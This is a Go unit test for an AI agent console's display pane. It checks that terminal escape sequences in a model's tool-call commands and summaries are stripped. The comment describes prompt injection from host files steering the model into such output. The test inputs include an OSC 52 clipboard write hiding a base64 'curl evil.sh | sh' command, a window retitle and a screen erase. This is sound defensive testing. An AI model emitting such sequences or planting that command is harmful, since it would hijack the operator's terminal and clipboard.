package agentview

import (
	"strings"
	"testing"

	"github.com/rexconsole/rex/internal/agent"
)

// TestToolCallTextIsPrintable: the agent pane draws a tool call's command
// (toolLines: firstLine(cmd)) and its result summary without taking
// control characters out (the answer's markdown is cleaned; these are
// not). The command is what the model wrote, and the model follows what
// it read on the hosts (a file, a log line: prompt injection); error
// summaries quote the model's input too. An escape sequence there reaches
// the operator's terminal as is: here an OSC 0 that retitles the window
// and an erase-display. The console's text from hosts goes through
// engine.Sanitize; this does not.
func TestToolCallTextIsPrintable(t *testing.T) {
	v := New(Styles{})
	v.Apply(agent.Event{Type: agent.EventText, Text: "All hosts are fine.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07"})
	v.Apply(agent.Event{Type: agent.EventToolCall, Tool: "bash", CallID: "c1"})
	v.Apply(agent.Event{Type: agent.EventToolStart, Tool: "bash", CallID: "c1", Command: "uptime\x1b]0;owned\x07", Target: "web"})
	v.Apply(agent.Event{Type: agent.EventToolResult, Tool: "bash", CallID: "c1", Summary: "exit 0\x1b[2J"})
	out := strings.Join(v.Lines(80), "\n")
	for _, bad := range []string{"\x1b]52;", "\x1b]0;", "\x1b[2J"} {
		if strings.Contains(out, bad) {
			t.Errorf("the agent pane writes %q from the model to the operator's terminal", bad)
		}
	}
}
